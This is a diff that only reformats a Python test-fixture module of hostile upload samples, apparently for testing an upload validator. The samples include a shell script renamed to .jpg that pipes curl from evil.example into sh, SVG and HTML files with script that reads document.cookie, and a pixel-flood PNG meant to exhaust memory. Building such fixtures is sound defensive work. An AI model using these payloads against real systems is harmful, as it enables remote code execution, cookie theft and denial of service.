@@ -4,6 +4,7 @@
 
 Every file is small. The oversized upload is made in the test itself (it would be megabytes).
 """
+
 from __future__ import annotations
 
 import io
@@ -25,8 +26,12 @@ def pixel_flood_png() -> bytes:
     """A valid-looking PNG header claiming 100000 x 100000 pixels, with a tiny IDAT."""
     ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
     idat = zlib.compress(b"\x00" * 1024, 9)
-    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + \
-        _png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", ihdr)
+        + _png_chunk(b"IDAT", idat)
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def small_jpeg() -> bytes:
@@ -46,7 +51,7 @@ def zip_file() -> bytes:
 FILES = {
     "script-renamed.jpg": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
     "svg-with-script.jpg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
-                           b'<script>alert(document.cookie)</script></svg>',
+    b"<script>alert(document.cookie)</script></svg>",
     "svg-with-script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
     "page.html.jpg": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
     "pixel-flood.png": pixel_flood_png(),
